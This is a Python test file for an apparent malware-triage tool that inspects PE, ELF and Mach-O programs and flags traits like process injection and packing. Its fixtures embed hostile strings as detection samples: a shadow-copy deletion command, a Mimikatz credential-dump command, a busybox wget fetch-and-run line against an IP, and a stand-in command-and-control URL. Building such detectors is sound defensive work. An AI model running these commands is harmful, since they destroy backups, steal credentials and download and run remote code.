"""Programs: what they are and can do, from files made here; damage is a finding, never an exception."""

from __future__ import annotations

import hashlib
import io
import random
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from svc.assistant.findings import Facts, Finding, Gap, Progress, ToolEvent, with_facts
from svc.assistant.skills.answer_parts import as_sections
from svc.assistant.skills.file_traits import entropy
from svc.assistant.skills.indicators.findings import IndicatorFacts
from svc.assistant.skills.program import answer as section
from svc.assistant.skills.program.findings import ProgramFacts, ProgramPart, ProgramTrait, ProgramVerdict
from svc.assistant.skills.program.tool import inspect
from tests.support import program_files as made

NOISE = random.Random(1).randbytes(20_000)


def run(data: bytes, name: str = "sample.exe") -> list[ToolEvent]:
    return list(inspect(io.BytesIO(data), source=name))


def found(data: bytes, name: str = "sample.exe") -> list[Finding[Facts]]:
    return [item for item in run(data, name) if isinstance(item, Finding)]


def facts(data: bytes, name: str = "sample.exe") -> ProgramFacts:
    [finding] = with_facts(found(data, name), ProgramFacts)
    return finding.facts


def traits(data: bytes, name: str = "sample.exe") -> set[str]:
    items = with_facts(found(data, name), ProgramTrait)
    return {item.facts.trait for item in items if item.severity != "info"}


def verdict(data: bytes, name: str = "sample.exe") -> str:
    [finding] = with_facts(found(data, name), ProgramVerdict)
    return finding.facts.verdict


def test_a_plain_program_is_unremarkable_and_its_hashes_are_correct():
    data = made.pe()
    assert facts(data).sha256 == hashlib.sha256(data).hexdigest()
    assert facts(data).architecture == "x64"
    assert facts(data).compile_time == "2023-11-14T22:13:20Z"
    assert facts(data).libraries == ["KERNEL32.dll"]
    assert verdict(data) == "ordinary"


def test_progress_comes_first():
    assert isinstance(run(made.pe())[0], Progress)


INJECTION = {
    "KERNEL32.dll": [
        "OpenProcess",
        "VirtualAllocEx",
        "WriteProcessMemory",
        "CreateRemoteThread",
        *(f"F{n}" for n in range(9)),
    ]
}
TRAITS = {
    "injection by its imports": (made.pe(imports=INJECTION), "process_injection"),
    "noise in the code": (made.pe(sections=[(".text", NOISE, made.CODE)]), "packed_code"),
    "a writable and executable section": (made.pe(sections=[(".x", b"\x90" * 600, made.RWX)]), "write_execute_section"),
    "UPX's sections": (
        made.pe(sections=[("UPX0", b"\x90" * 64, made.RWX), ("UPX1", NOISE, made.RWX)]),
        "made_by_packer",
    ),
    "hardly any import": (made.pe(imports={"KERNEL32.dll": ["LoadLibraryA", "GetProcAddress"]}), "few_imports"),
    "a start outside the code": (made.pe(sections=[(".data", b"\x90" * 64, made.DATA)]), "entry_outside_code"),
    "a time to come": (made.pe(stamp=0xF0000000), "odd_compile_time"),
    "another program behind it": (made.pe(overlay=made.pe()), "program_in_overlay"),
    "a reflective loader": (made.pe(exports=["ReflectiveLoader"], is_library=True), "export_reflective_loader"),
    "commands against shadow copies": (
        made.pe(
            sections=[
                (".text", b"\x90" * 600, made.CODE),
                (".data", b"vssadmin.exe delete shadows /all /quiet\0", made.DATA),
            ]
        ),
        "words_shadow_copies",
    ),
    "wide words count like narrow ones": (
        made.pe(
            sections=[
                (".text", b"\x90" * 600, made.CODE),
                (".data", "sekurlsa::logonpasswords".encode("utf-16-le"), made.DATA),
            ]
        ),
        "words_credential_tool",
    ),
    "a writable and executable segment": (made.elf(flags=7), "write_execute_segment"),
    "an ELF without sections": (made.elf(), "no_sections"),
    "UPX's mark in an ELF": (made.elf(extra=b"UPX!" + bytes(8)), "made_by_packer"),
    "a bot's words": (
        made.elf(extra=b"/bin/busybox wget http://45.9.148.3/m.sh; chmod 777 m.sh; sh m.sh\0"),
        "words_fetch_and_run",
    ),
    "no signature on macOS": (made.macho(), "unsigned"),
    "a writable and executable segment on macOS": (made.macho(segments=[("__TEXT", 7)]), "write_execute_segment"),
}


@pytest.mark.parametrize(("data", "trait"), TRAITS.values(), ids=TRAITS)
def test_unusual_structure_is_a_trait(data: bytes, trait: str):
    assert trait in traits(data)


def test_injection_with_packed_code_is_malicious_with_reasons():
    data = made.pe(sections=[("UPX1", NOISE, made.RWX)], imports=INJECTION)
    items = found(data)
    assert verdict(data) == "malicious"
    assert "T1055" in {technique for item in items for technique in item.techniques}
    assert "Can inject code into another process" in section.SECTION.verdict(items)


@pytest.mark.parametrize(
    ("name", "trait"),
    [("invoice.pdf.exe", "document_name"), ("report.docx", "document_name"), ("ann\u202etxt.exe", "reversed_name")],
)
def test_a_name_that_hides_a_program_is_a_trait(name: str, trait: str):
    assert trait in traits(made.pe(), name)


def test_addresses_in_strings_are_indicators_with_their_offset():
    data = made.elf(extra=b"\0http://evil-host.top/gate.php\0")
    [url] = [item for item in with_facts(found(data), IndicatorFacts) if item.facts.type == "url"]
    assert url.facts.value == "http://evil-host.top/gate.php"
    assert url.evidence[0].offset == data.index(b"http://")


def test_an_elf_of_this_machine_is_read_and_unremarkable():
    data = Path(sys.executable).resolve().read_bytes()
    if not data.startswith(b"\x7fELF"):
        pytest.skip("this Python is no ELF program")
    assert facts(data).format == "ELF"
    assert facts(data).bits == 64
    assert verdict(data, "python3") in ("ordinary", "unusual")


def test_a_macho_lists_its_segments_with_their_permissions():
    parts = [part.facts for part in with_facts(found(made.macho(segments=[("__TEXT", 5)])), ProgramPart)]
    assert ("segment", "__TEXT", 64) in {(part.part, part.name, part.size) for part in parts}
    assert any(part.note.endswith("permissions rx") for part in parts)


def test_a_macho_lists_its_libraries():
    assert facts(made.macho(libraries=["/usr/lib/libobjc.A.dylib"])).libraries == ["/usr/lib/libobjc.A.dylib"]


@pytest.mark.parametrize("data", [b"", b"hello", b"\x00" * 1_000, b"%PDF-1.7"], ids=["empty", "text", "zeros", "pdf"])
def test_a_file_of_another_kind_is_a_gap_without_findings(data: bytes):
    items = run(data)
    assert [item for item in items if isinstance(item, Finding)] == []
    assert any(isinstance(item, Gap) for item in items)


WHOLE = {"pe": made.pe(imports=INJECTION, exports=["A", "B"]), "elf": made.elf(), "macho": made.macho()}


@pytest.mark.parametrize("data", WHOLE.values(), ids=WHOLE)
def test_a_truncated_program_still_gets_a_verdict(data: bytes):
    for end in range(4, len(data), max(1, len(data) // 60)):
        kinds = [item.kind for item in found(data[:end])]
        assert kinds[-1] == "program_verdict"


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from(list(WHOLE.values())), st.lists(st.tuples(st.integers(4, 3_000), st.integers(0, 255)), max_size=12)
)
def test_changed_bytes_raise_no_exception(data: bytes, changes: list[tuple[int, int]]):
    changed = bytearray(data)
    for position, value in changes:
        changed[position % len(changed)] = value
    items = found(bytes(changed))
    as_sections(section.SECTION.folds(items))
    assert section.SECTION.verdict(items) if items else True


@pytest.mark.long
@settings(max_examples=5_000, deadline=None)
@given(st.sampled_from(list(WHOLE.values())), st.binary(max_size=400), st.integers(0, 3_000))
def test_spliced_bytes_raise_no_exception(data: bytes, piece: bytes, position: int):
    at = position % len(data)
    found(data[:at] + piece + data[at + len(piece) :])


def test_entropy_is_zero_for_one_value_and_eight_for_noise():
    assert entropy(b"") == entropy(b"a" * 1_000) == 0.0
    assert entropy(bytes(range(256)) * 16) == 8.0
